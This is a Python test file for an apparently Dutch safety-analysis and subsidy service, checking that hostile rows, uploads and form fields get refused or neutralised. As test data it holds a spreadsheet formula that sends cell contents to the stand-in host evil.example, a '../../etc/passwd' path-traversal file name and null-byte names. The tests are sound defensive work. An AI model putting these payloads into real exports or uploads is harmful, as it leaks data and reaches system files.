"""Attacks with hostile data (issue 9): one bad row, file or form field never breaks the service.

Written from the attack report: rows dated 1700 or 2200, coordinates inf or lat 91, unknown
CRSs, lines and polygons instead of points, absurd file names, Unicode digits in addresses,
formula cells in CSVs. Each gives a 4xx or a row-level refusal, never a 5xx; rows that are
already in the database (written by hand) do not break a page; storage on SQLite and PostgreSQL.
"""

from __future__ import annotations

from veilig.dates import today_local
import json
import math
from datetime import UTC, date, datetime, timedelta

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
import shapely
from fastapi.testclient import TestClient
from sqlalchemy import insert, select

from veilig.errors import VeiligError
from veilig.geo.demo import generate_incidents
from veilig.geo.io import ReadResult, read_incidents
from veilig.storage.incidents import data_version, load_incidents, store_incidents
from veilig.storage.models import ImportBatch, Incident

GOOD_XY = ("93494.0", "452949.0")
HEADER = "id,occurred_at,category,x,y\n"


def _csv(tmp_path, body: str, name: str = "f.csv", header: str = HEADER):
    path = tmp_path / name
    path.write_text(header + body, encoding="utf-8")
    return path


def _fields(result) -> dict[int, set[str]]:
    out: dict[int, set[str]] = {}
    for e in result.errors:
        out.setdefault(e.row, set()).add(e.field)
    return out


# ------------------------------------------------------------------ the import refuses, row by row


@pytest.mark.parametrize("when", ["1700-06-01T12:00:00+00:00", "2200-01-01T12:00:00+01:00", "0001-01-01",
                                  "9999-12-31", "1969-12-31T23:00:00+01:00", "1700-06-01"])
def test_implausible_dates_are_refused_row_by_row(tmp_path, when):
    path = _csv(tmp_path, f"A-1,2025-03-01T21:30:00+01:00,drugs,{GOOD_XY[0]},{GOOD_XY[1]}\n"
                          f"A-2,{when},drugs,{GOOD_XY[0]},{GOOD_XY[1]}\n")
    result = read_incidents(path)
    assert _fields(result) == {2: {"occurred_at"}}
    assert len(result.valid) == 1


def test_the_plausible_window_is_a_setting_and_today_plus_a_day_is_allowed(tmp_path):
    now = pd.Timestamp("2026-06-01T12:00:00Z")
    path = _csv(tmp_path, f"A-1,2026-06-02T11:00:00+00:00,drugs,{GOOD_XY[0]},{GOOD_XY[1]}\n"
                          f"A-2,2026-06-02T13:00:00+00:00,drugs,{GOOD_XY[0]},{GOOD_XY[1]}\n"
                          f"A-3,1999-12-31T12:00:00+00:00,drugs,{GOOD_XY[0]},{GOOD_XY[1]}\n")
    result = read_incidents(path, now=now, earliest=date(2000, 1, 1))
    assert _fields(result) == {2: {"occurred_at"}, 3: {"occurred_at"}}
    assert "VEILIG_IMPORT_FUTURE_DAYS" in next(e.reason for e in result.errors if e.row == 2)


@pytest.mark.parametrize("lat,lon", [("91", "4.49"), ("1e308", "1e308"), ("52.06", "inf"), ("-91", "4.49"),
                                     ("52.06", "181"), ("nan", "4.49")])
def test_impossible_wgs84_coordinates_are_refused_not_stored_with_buurt_none(tmp_path, lat, lon):
    path = _csv(tmp_path, f"A-1,2025-03-01T21:30:00+01:00,drugs,52.0601,4.4940\nA-2,2025-03-01T21:30:00+01:00,drugs,{lat},{lon}\n",
                header="id,occurred_at,category,lat,lon\n")
    result = read_incidents(path)
    assert set(_fields(result)) == {2}
    assert result.valid["buurt"].str.startswith("BU").all()


@pytest.mark.parametrize("x,y", [("inf", "inf"), ("1e308", "-1e308"), ("-inf", "452949"), ("9e15", "452949")])
def test_impossible_rd_coordinates_are_refused(tmp_path, x, y):
    path = _csv(tmp_path, f"A-1,2025-03-01T21:30:00+01:00,drugs,{x},{y}\n")
    result = read_incidents(path)
    assert set(_fields(result)) == {1} and len(result.valid) == 0


def _geojson(tmp_path, features, crs=None, name="f.geojson"):
    doc = {"type": "FeatureCollection", "features": features}
    if crs is not None:
        doc["crs"] = crs
    path = tmp_path / name
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def _feature(fid, geometry):
    return {"type": "Feature", "geometry": geometry,
            "properties": {"id": fid, "occurred_at": "2025-03-01T21:30:00+01:00", "category": "drugs"}}


def test_geojson_with_a_linestring_or_huge_coordinates_is_refused_row_by_row(tmp_path):
    path = _geojson(tmp_path, [
        _feature("P", {"type": "Point", "coordinates": [4.494, 52.0601]}),
        _feature("L", {"type": "LineString", "coordinates": [[4.49, 52.06], [4.50, 52.07]]}),
        _feature("H", {"type": "Point", "coordinates": [1e308, -1e308]}),
        _feature("M", {"type": "MultiPoint", "coordinates": [[4.49, 52.06]]}),
    ])
    result = read_incidents(path)
    assert _fields(result) == {2: {"geometry"}, 3: {"geometry"}, 4: {"geometry"}}
    assert list(result.valid["ext_id"]) == ["P"]


def test_geojson_declaring_an_unknown_crs_is_refused_not_read_as_wgs84(tmp_path):
    path = _geojson(tmp_path, [_feature("P", {"type": "Point", "coordinates": [93494, 452949]})],
                    crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::999999"}})
    with pytest.raises(VeiligError, match="geen bekend CRS"):
        read_incidents(path)


def test_geopackage_with_polygons_is_refused_row_by_row(tmp_path):
    gdf = gpd.GeoDataFrame({"id": ["A", "B"], "occurred_at": ["2025-03-01T21:30:00+01:00"] * 2,
                            "category": ["drugs", "drugs"]},
                           geometry=[shapely.Point(93494, 452949), shapely.box(93000, 452000, 93100, 452100)],
                           crs="EPSG:28992")
    path = tmp_path / "poly.gpkg"
    gdf.to_file(path, driver="GPKG", engine="pyogrio")
    result = read_incidents(path)
    assert _fields(result) == {2: {"geometry"}}


@pytest.mark.parametrize("crs", ["+proj=longlat +a=1e308", "+proj=longlat +a=1", "EPSG:999999", "nonsense",
                                 "+proj=merc +lon_0=1e308", "x" * 5000])
def test_an_unknown_or_hand_made_crs_is_refused(tmp_path, crs):
    path = _csv(tmp_path, f"A-1,2025-03-01T21:30:00+01:00,drugs,{GOOD_XY[0]},{GOOD_XY[1]}\n")
    with pytest.raises(VeiligError, match="geen bekend CRS"):
        read_incidents(path, crs=crs)


def test_control_characters_and_long_text_are_refused_in_ids_sources_and_descriptions(tmp_path):
    path = _csv(tmp_path, "A-1,2025-03-01T21:30:00+01:00,drugs,93494,452949,ok\n"
                          "A\x002,2025-03-01T21:30:00+01:00,drugs,93494,452949,ok\n"
                          f"A-3,2025-03-01T21:30:00+01:00,drugs,93494,452949,{'x' * 5000}\n"
                          "A-4,2025-03-01T21:30:00+01:00,drugs,93494,452949,nul\x00byte\n",
                header="id,occurred_at,category,x,y,description\n")
    result = read_incidents(path)
    assert _fields(result) == {2: {"id"}, 3: {"description"}, 4: {"description"}}
    with_nul_source = read_incidents(path, source="bron\x00")
    assert _fields(with_nul_source)[1] == {"source"} and with_nul_source.valid.empty
    assert _fields(read_incidents(path, source="b" * 101))[1] == {"source"}


def test_a_file_with_more_rows_than_the_limit_is_refused_from_its_metadata(tmp_path):
    df = generate_incidents(1, 3000, date(2025, 1, 1), date(2025, 3, 31))
    path = tmp_path / "many.parquet"
    from veilig.geo.io import write_incidents

    write_incidents(df, path)
    with pytest.raises(VeiligError, match="grens is 1000 rijen") as err:
        read_incidents(path, max_rows=1000)
    assert err.value.status_code == 413


# ------------------------------------------------------------------ what is stored already


HOSTILE_DB_ROWS = [
    # (ext_id, occurred_at (UTC), x, y, buurt)
    ("H-1700", datetime(1700, 6, 1, 12, tzinfo=UTC), 93494.0, 452949.0, "BU06370101"),
    ("H-2200", datetime(2200, 1, 1, 12, tzinfo=UTC), 93494.0, 452949.0, "BU06370101"),
    ("H-0001", datetime(1, 1, 1, 12, tzinfo=UTC), 93494.0, 452949.0, "BU06370101"),
    ("H-inf", datetime(2025, 3, 1, 12, tzinfo=UTC), math.inf, math.inf, "None"),
    ("H-ninf", datetime(2025, 3, 2, 12, tzinfo=UTC), 1e308, -1e308, "None"),
    ("H-nan", datetime(2025, 3, 3, 12, tzinfo=UTC), math.nan, 452949.0, "BU06370101"),
]


def insert_hostile_rows(db, categories=("drugs", "overlast_jeugd", "woninginbraak")) -> None:
    """Rows as an older version or a hand-written INSERT could have left them."""
    with db.write() as conn:
        batch = conn.execute(insert(ImportBatch).values(
            filename="hand.sql", source="hand", rows_in_file=0, rows_inserted=0, rows_skipped_existing=0,
            rows_invalid=0, imported_at=datetime.now(UTC)).returning(ImportBatch.id)).scalar_one()
        for cat in categories:
            for ext_id, when, x, y, buurt in HOSTILE_DB_ROWS:
                if db.is_sqlite and math.isnan(x):
                    continue  # SQLite stores NaN as NULL, which the NOT NULL column refuses
                conn.execute(insert(Incident).values(source="hand", ext_id=f"{ext_id}-{cat}", occurred_at=when,
                                                     category=cat, x=x, y=y, buurt=buurt, description=None,
                                                     batch_id=batch))


def _demo(db, n=1500):
    df = generate_incidents(3, n, date(2024, 1, 1), date(2025, 6, 30))
    valid = df.assign(ext_id=df["id"], row=range(1, len(df) + 1))
    from veilig.geo.neighbourhoods import assign_buurt

    valid["buurt"] = assign_buurt(valid["x"].to_numpy(), valid["y"].to_numpy())[0]
    valid["occurred_at"] = pd.to_datetime(valid["occurred_at"], utc=True)
    if "description" not in valid:
        valid["description"] = None
    store_incidents(db, ReadResult(file="demo", n_rows=len(valid), valid=valid[
        ["row", "ext_id", "source", "occurred_at", "category", "x", "y", "buurt", "description"]]))


def test_implausible_rows_already_stored_never_reach_an_analysis(db):
    _demo(db, 500)
    insert_hostile_rows(db)
    loaded = load_incidents(db)
    assert not loaded["ext_id"].str.startswith("H-").any()
    assert np.isfinite(loaded["x"]).all() and loaded["occurred_at"].min().year >= 1970
    from veilig.storage.incidents import incident_span

    first, last = incident_span(db)
    assert first.year == 2024 and last.year == 2025


@pytest.fixture
def hostile_service(db_url, tmp_path):
    """The real app over a database that holds demo data and the hostile rows (both backends)."""
    from veilig.api.app import create_app
    from veilig.settings import Settings
    from veilig.storage import open_database
    from veilig.storage.auth import add_user

    db = open_database(db_url)
    _demo(db)
    insert_hostile_rows(db)
    tokens = {role: add_user(db, f"{role}-x", role) for role in ("analyst", "planner", "subsidy", "admin")}
    db.dispose()
    app = create_app(Settings(database_url=db_url, data_dir=tmp_path, tiles_enabled=False), load_demo=False)
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client, tokens, app


ANALYSIS_PAGES = [
    "/api/v1/rhythm?theme=jeugd",
    "/api/v1/rhythm?theme=ondermijning&start=2025-01-01&end=2025-03-31",
    "/api/v1/rhythm/plan?theme=jeugd&week=2025-W10",
    "/api/v1/rhythm/plan?theme=jeugd&date=2025-03-01",
    "/api/v1/hotspots?category=drugs",
    "/api/v1/hotspots?category=burglary&start=2025-01-01&end=2025-03-31",
    "/api/v1/neighbourhoods/stats?category=drugs",
    "/maps/rhythm?theme=jeugd",
    "/maps/rhythm?theme=ondermijning",
    "/maps/hotspots?category=drugs",
]


@pytest.mark.parametrize("role", ["analyst", "planner"])
def test_pages_survive_whatever_the_database_holds(hostile_service, role):
    client, tokens, _ = hostile_service
    h = {"Authorization": f"Bearer {tokens[role]}"}
    for url in ANALYSIS_PAGES:
        r = client.get(url, headers=h)
        assert r.status_code == 200, (url, r.status_code, r.text[:300])


@pytest.mark.parametrize("url", [
    "/api/v1/rhythm/plan?theme=jeugd&date=0001-01-01",
    "/api/v1/rhythm/plan?theme=jeugd&date=9999-12-31",
    "/api/v1/rhythm?theme=jeugd&start=0001-01-01",
    "/api/v1/rhythm?theme=jeugd&end=9999-12-31",
    "/api/v1/hotspots?category=drugs&start=1700-06-01",
    "/api/v1/hotspots?category=drugs&cell=10",
    "/api/v1/hotspots?category=drugs&cell=1e308",
    "/api/v1/neighbourhoods/stats?category=drugs&start=2200-01-01",
    "/maps/rhythm?theme=jeugd&week=0001-W01",
    "/maps/rhythm?theme=jeugd&week=2200-W01",
])
def test_absurd_parameters_are_a_4xx_not_a_5xx(hostile_service, url):
    client, tokens, _ = hostile_service
    r = client.get(url, headers={"Authorization": f"Bearer {tokens['analyst']}"})
    assert 400 <= r.status_code < 500, (url, r.status_code, r.text[:300])


def test_a_grid_too_heavy_for_one_request_is_413_and_one_just_inside_is_served(hostile_service):
    client, tokens, _ = hostile_service
    h = {"Authorization": f"Bearer {tokens['analyst']}"}
    r = client.get("/api/v1/hotspots?category=drugs&cell=10", headers=h)
    assert r.status_code == 413 and "cell" in r.json()["detail"]
    assert client.get("/api/v1/hotspots?category=drugs&cell=50", headers=h).status_code == 200


# ------------------------------------------------------------------ uploads over HTTP


def _upload(client, token, name, content, **form):
    if any(ord(ch) < 32 for ch in name):
        # httpx would percent-encode a control character in the file name; send it raw, as an
        # attacker's client does.
        boundary = "b0undary"
        parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in form.items()]
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'
                     f"{content}\r\n--{boundary}--\r\n")
        return client.post("/api/v1/incidents", content="".join(parts).encode(), headers={
            "Authorization": f"Bearer {token}", "Content-Type": f"multipart/form-data; boundary={boundary}"})
    return client.post("/api/v1/incidents", headers={"Authorization": f"Bearer {token}"},
                       files={"file": (name, content, "application/octet-stream")}, data=form)


HOSTILE_UPLOADS = [
    ("old.csv", HEADER + "A-1,1700-06-01,drugs,93494,452949\n"),
    ("future.csv", HEADER + "A-1,2200-01-01,drugs,93494,452949\n"),
    ("zero.csv", HEADER + "A-1,0001-01-01,drugs,93494,452949\n"),
    ("end.csv", HEADER + "A-1,9999-12-31,drugs,93494,452949\n"),
    ("inf.csv", HEADER + "A-1,2025-03-01,drugs,inf,inf\n"),
    ("lat.csv", "id,occurred_at,category,lat,lon\nA-1,2025-03-01,drugs,91,4.49\n"),
    ("huge.csv", "id,occurred_at,category,lat,lon\nA-1,2025-03-01,drugs,1e308,1e308\n"),
    ("line.geojson", json.dumps({"type": "FeatureCollection", "features": [
        _feature("L", {"type": "LineString", "coordinates": [[4.49, 52.06], [4.5, 52.07]]})]})),
    ("big.geojson", json.dumps({"type": "FeatureCollection", "features": [
        _feature("H", {"type": "Point", "coordinates": [1e308, -1e308]})]})),
    ("crs.geojson", json.dumps({"type": "FeatureCollection", "crs": {"type": "name", "properties": {
        "name": "urn:ogc:def:crs:EPSG::999999"}}, "features": [
        _feature("P", {"type": "Point", "coordinates": [93494, 452949]})]})),
    ("x" * 300 + ".csv", HEADER + "A-1,2025-03-01,drugs,93494,452949\n"),
    ("nul\x00name.csv", HEADER + "A-1,2025-03-01,drugs,93494,452949\n"),
    ("broken.gpkg", "not a geopackage"),
    ("broken.parquet", "PAR1 not really"),
    ("../../etc/passwd.csv", HEADER + "A-1,1700-06-01,drugs,93494,452949\n"),
]


@pytest.mark.parametrize("name,content", HOSTILE_UPLOADS, ids=[n[:20] for n, _ in HOSTILE_UPLOADS])
def test_hostile_uploads_are_refused_with_a_4xx_and_store_nothing(hostile_service, name, content):
    client, tokens, app = hostile_service
    before = data_version(app.state.db)
    r = _upload(client, tokens["analyst"], name, content)
    assert 400 <= r.status_code < 500, (r.status_code, r.text[:300])
    assert data_version(app.state.db) == before
    # Error messages never show the server's temporary paths.
    assert "/tmp" not in r.text and "veilig-upload" not in r.text


def test_an_unknown_crs_in_the_form_is_refused(hostile_service):
    client, tokens, _ = hostile_service
    r = _upload(client, tokens["analyst"], "ok.csv", HEADER + "A-1,2025-03-01,drugs,93494,452949\n",
                crs="+proj=longlat +a=1e308")
    assert r.status_code == 400 and "geen bekend CRS" in r.json()["detail"]


# ------------------------------------------------------------------ import batches: list and undo


def test_an_import_can_be_listed_and_undone_over_http_and_the_undo_is_audited(hostile_service):
    from veilig.storage.auth import read_audit

    client, tokens, app = hostile_service
    h = {"Authorization": f"Bearer {tokens['analyst']}"}
    r = _upload(client, tokens["analyst"], "wrong.csv",
                HEADER + "W-1,2025-03-01T12:00:00+01:00,drugs,93494,452949\n"
                         "W-2,2025-03-02T12:00:00+01:00,drugs,93494,452949\n", source="fout")
    assert r.status_code == 201, r.text
    batch = r.json()["batch_id"]
    listed = {b["id"]: b for b in client.get("/api/v1/incidents/batches", headers=h).json()}
    assert listed[batch]["rows_stored"] == 2 and listed[batch]["imported_by"] == "analyst-x"
    version = data_version(app.state.db)
    r = client.post(f"/api/v1/incidents/batches/{batch}/undo", headers=h)
    assert r.status_code == 200 and r.json()["rows_removed"] == 2 and r.json()["undone_by"] == "analyst-x"
    assert data_version(app.state.db) > version  # caches keyed on it are invalidated
    assert not load_incidents(app.state.db)["source"].eq("fout").any()
    assert client.post(f"/api/v1/incidents/batches/{batch}/undo", headers=h).status_code == 409
    assert client.post("/api/v1/incidents/batches/999999/undo", headers=h).status_code == 404
    assert client.post("/api/v1/incidents/batches/99999999999999/undo", headers=h).status_code == 404
    assert any(e["action"] == "undo_import" and e["target"] == f"batch {batch}" for e in read_audit(app.state.db))
    for role in ("planner", "subsidy", "admin"):
        other = {"Authorization": f"Bearer {tokens[role]}"}
        assert client.get("/api/v1/incidents/batches", headers=other).status_code == 403
        assert client.post(f"/api/v1/incidents/batches/{batch}/undo", headers=other).status_code == 403
    # The same file again goes in again (it was taken back, not remembered as stored).
    r = _upload(client, tokens["analyst"], "wrong.csv",
                HEADER + "W-1,2025-03-01T12:00:00+01:00,drugs,93494,452949\n", source="fout")
    assert r.status_code == 201 and r.json()["inserted"] == 1


def test_import_undo_on_the_command_line(db_url, tmp_path):
    from helpers import run_cli

    env = {"VEILIG_DATABASE_URL": db_url, "VEILIG_DATA_DIR": str(tmp_path)}
    path = _csv(tmp_path, "C-1,2025-03-01T12:00:00+01:00,drugs,93494,452949\n", name="cli.csv")
    r = run_cli("import", "incidents", str(path), "--source", "cli", env=env)
    assert r.returncode == 0, r.stderr
    listing = run_cli("import", "list", env=env)
    assert listing.returncode == 0 and "cli.csv" in listing.stdout
    refused = run_cli("import", "undo", "1", env=env)  # no --yes and no terminal: not confirmed
    assert refused.returncode != 0
    done = run_cli("import", "undo", "1", "--yes", env=env)
    assert done.returncode == 0 and "1 incidenten verwijderd" in done.stdout, done.stderr
    again = run_cli("import", "undo", "1", "--yes", env=env)
    assert again.returncode != 0 and "al ongedaan" in again.stderr + again.stdout
    missing = run_cli("import", "undo", "77", "--yes", env=env)
    assert missing.returncode != 0 and "bestaat niet" in missing.stderr + missing.stdout


# ------------------------------------------------------------------ the ledger: one address, one grant


PILOT = dict(name="Pilot", budget_cents=1_000_000, opens_on=date(2026, 1, 1), closes_on=date(2026, 12, 31))
NOW = datetime(2026, 3, 1, 10, 0, tzinfo=UTC)


def _app(postcode, house_number=12, **kw):
    from veilig.ledger.schemas import ApplicationIn

    values = dict(applicant_name="J. de Vries", postcode=postcode, house_number=house_number, buurt="BU06370101",
                  object_type="woning", invoice_amount_cents=165_000, invoice_date=date(2026, 2, 1),
                  products=["SKG*** cilinderslot"], iban="NL91ABNA0417164300")
    values.update(kw)
    return ApplicationIn(**values)


def test_unicode_digit_addresses_are_one_address_or_refused(db):
    from veilig.ledger.errors import RuleViolation, StateConflict
    from veilig.ledger.schemas import PilotIn
    from veilig.storage import ledger_repo as L

    L.create_pilot(db, PilotIn(**PILOT), now=NOW)
    first = L.apply(db, _app("2713 AB"), now=NOW)
    assert first.status == "reserved"
    outcomes = []
    for pc in ("2７１３AB", "2٧١٣AB", "2৭১৩AB", "２７１３ＡＢ", "2713ab"):
        try:
            L.apply(db, _app(pc), now=NOW)
            outcomes.append("accepted")
        except (RuleViolation, StateConflict, VeiligError) as exc:
            outcomes.append(type(exc).__name__)
    assert "accepted" not in outcomes, outcomes
    assert L.budget(db, now=NOW).reserved_cents == first.grant_cents  # one reservation
    # House numbers and additions in other scripts' digits: refused or the same address.
    for number, addition in (("١٢", None), ("১২", None)):
        with pytest.raises((RuleViolation, VeiligError)):
            L.apply(db, _app("2713 AB", house_number=12, house_number_addition=number), now=NOW)
    assert L.budget(db, now=NOW).reserved_cents == first.grant_cents


@pytest.mark.parametrize("iban", ["NL٩١ABNA0417164300", "NL৯১ABNA0417164300", "NL91ABNA041716430٠"])
def test_ibans_with_non_ascii_digits_are_refused(iban):
    from veilig.ledger.errors import RuleViolation
    from veilig.ledger.iban import validate_iban

    with pytest.raises(RuleViolation):
        validate_iban(iban)
    assert validate_iban("NL９１ABNA0417164300") == "NL91ABNA0417164300"  # full-width folds under NFKC


def test_the_address_migration_rewrites_stored_keys_and_reports_conflicts(db):
    from alembic import command
    from sqlalchemy import text

    from veilig.storage.db import alembic_config

    cfg = alembic_config(db.engine)
    command.downgrade(cfg, "0003")
    now = datetime(2026, 3, 1, tzinfo=UTC)
    with db.engine.begin() as conn:
        conn.execute(text(
            "INSERT INTO ledger_pilots (id, name, budget_cents, opens_on, closes_on, grant_percentage, "
            "max_grant_cents, waiting_list, object_types, postcode_ranges, buurten, created_at) VALUES "
            "(1, 'p', 100000, '2026-01-01', '2026-12-31', 50, 25000, false, 'woning,schuur', '2711-2729', '', :now)"),
            {"now": now})
        rows = [(1, "reserved", "2713AB", "2713AB|12|"), (2, "reserved", "2٧١٣AB", "2٧١٣AB|12|"),
                (3, "reserved", "2৭১৩AB", "2৭১৩AB|14|"), (4, "rejected", "2৭১৩AB", "2৭১৩AB|12|")]
        for app_id, status, pc, key in rows:
            conn.execute(text(
                "INSERT INTO ledger_applications (id, pilot_id, status, applicant_name, postcode, house_number, "
                "address_key, received_at, updated_at) VALUES (:id, 1, :st, 'x', :pc, 12, :key, :now, :now)"),
                {"id": app_id, "st": status, "pc": pc, "key": key, "now": now})
    command.upgrade(cfg, "heads")
    with db.engine.connect() as conn:
        keys = dict(conn.execute(text("SELECT id, address_key FROM ledger_applications")).all())
        conflicts = conn.execute(text(
            "SELECT application_id, other_application_id, address_key FROM ledger_address_conflicts")).all()
    assert keys[1] == "2713AB|12|" and keys[3] == "2713AB|14|" and keys[4] == "2713AB|12|"
    assert keys[2] == "2٧١٣AB|12|"  # left for the desk to decide
    assert [tuple(c) for c in conflicts] == [(2, 1, "2713AB|12|")]


# ------------------------------------------------------------------ exports: formula cells neutralised


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_formula_cells_are_neutralised_in_the_finance_export(db):
    from veilig.ledger.schemas import PilotIn
    from veilig.storage import ledger_repo as L

    L.create_pilot(db, PilotIn(**PILOT), now=NOW)
    L.apply(db, _app("2713 AB", applicant_name=FORMULA), now=NOW)
    L.apply(db, _app("2714 AB", applicant_name="+31 6 1234", products=["@SUM SKG***"]), now=NOW)
    app = L.apply(db, _app("2715 AB", applicant_name="-2+3"), now=NOW)
    L.reject(db, app.id, "=1+1 geen factuur", now=NOW)
    text_out = L.export_applications_csv(db, now=NOW)
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(text_out), delimiter=";") for c in row]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), [
        c for c in cells if c[:1] in "=+-@"]
    assert "'" + FORMULA in cells and "'-2+3" in cells


def test_formula_cells_are_neutralised_in_the_plan_csv(hostile_service, tmp_path):
    from veilig.storage.incidents import import_buurt_stats
    from veilig.geo.neighbourhoods import load_buurten

    client, tokens, app = hostile_service
    codes = list(load_buurten()["statcode"])
    stats = tmp_path / "stats.csv"
    quoted = FORMULA.replace('"', '""')
    stats.write_text("statcode,statnaam,inhabitants,dwellings\n"
                     + "".join(f'{c},"{quoted}",100,50\n' for c in codes), encoding="utf-8")
    import_buurt_stats(app.state.db, stats, set(codes))
    r = client.get("/api/v1/rhythm/plan?theme=jeugd&week=2025-W10",
                   headers={"Authorization": f"Bearer {tokens['planner']}", "Accept": "text/csv"})
    assert r.status_code == 200 and "HYPERLINK" in r.text
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-") and not _is_number(c) for c in cells)


def _is_number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


# ------------------------------------------------------------------ text and amounts


def test_amounts_are_integers_only_and_names_have_no_control_characters(hostile_service):
    client, tokens, _ = hostile_service
    admin = {"Authorization": f"Bearer {tokens['admin']}"}
    desk = {"Authorization": f"Bearer {tokens['subsidy']}"}
    today = today_local()
    r = client.post("/api/v1/subsidy/pilots", headers=admin, json={
        "name": "p", "budget_cents": 100_000, "opens_on": (today - timedelta(days=30)).isoformat(),
        "closes_on": (today + timedelta(days=30)).isoformat()})
    assert r.status_code == 201, r.text
    assert client.post("/api/v1/subsidy/pilots", headers=admin, json={
        "name": "p\x00", "budget_cents": 100_000, "opens_on": "2026-01-01", "closes_on": "2026-12-31"}
    ).status_code in (400, 409, 422)
    assert client.post("/api/v1/subsidy/pilots/1/top-up", headers=admin, json={"amount_cents": "100"}).status_code == 422
    assert client.post("/api/v1/subsidy/pilots/1/top-up", headers=admin,
                       json={"amount_cents": 100, "memo": "x" * 1000}).status_code == 422
    base = {"applicant_name": "J. Jansen", "postcode": "2711 AB", "house_number": 3, "buurt": "BU06370101",
            "object_type": "woning", "invoice_amount_cents": 10_000,
            "invoice_date": (today - timedelta(days=1)).isoformat(), "products": ["SKG*** slot"],
            "iban": "NL91ABNA0417164300"}
    for bad in ({"applicant_name": "Jan\x00"}, {"applicant_name": "x" * 300}, {"invoice_amount_cents": "100"},
                {"invoice_amount_cents": 100.0}, {"house_number": "3"}, {"products": ["SKG*** \x00"]},
                {"postcode": "2٧١١ AB"}):
        r = client.post("/api/v1/subsidy/applications", headers=desk, json={**base, **bad})
        assert 400 <= r.status_code < 500, (bad, r.status_code, r.text)
    r = client.post("/api/v1/users", headers=admin, json={"name": "eve\x00", "role": "planner"})
    assert 400 <= r.status_code < 500


# ------------------------------------------------------------------ the login limiter


def test_failed_logins_are_limited_per_client_with_retry_after(hostile_service):
    client, tokens, app = hostile_service
    limit = app.state.settings.login_failures_per_minute
    for _ in range(limit + 1):
        assert client.get("/api/v1/incidents/batches", headers={"Authorization": "Bearer wrong"}).status_code == 401
    blocked = client.get("/api/v1/incidents/batches", headers={"Authorization": "Bearer wrong"})
    assert blocked.status_code == 429 and int(blocked.headers["Retry-After"]) >= 1
    # While blocked, a right token is refused too (a guesser learns nothing), on every way in.
    assert client.get("/api/v1/incidents/batches",
                      headers={"Authorization": f"Bearer {tokens['analyst']}"}).status_code == 429
    assert client.get("/login/once?token=guess", follow_redirects=False).status_code == 429
    form = client.get("/login")
    import re

    token = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
    r = client.post("/login", data={"token": tokens["analyst"], "csrf_token": token},
                    headers={"Origin": "http://testserver"}, follow_redirects=False)
    assert r.status_code == 429 and "Retry-After" in r.headers


def test_the_limiter_forgets_after_the_window_and_its_memory_is_bounded():
    from veilig.api.ratelimit import FailureLimiter

    now = [0.0]
    lim = FailureLimiter(limit=3, window=60, max_clients=100, clock=lambda: now[0])
    for _ in range(4):
        lim.failure("a")
    assert lim.retry_after("a") == 60
    now[0] = 30
    assert lim.retry_after("a") == 30
    now[0] = 60.5
    assert lim.retry_after("a") is None
    for i in range(10_000):
        lim.failure(f"client-{i}")
    assert len(lim) <= 100 and all(len(q) <= 4 for q in lim._fails.values())
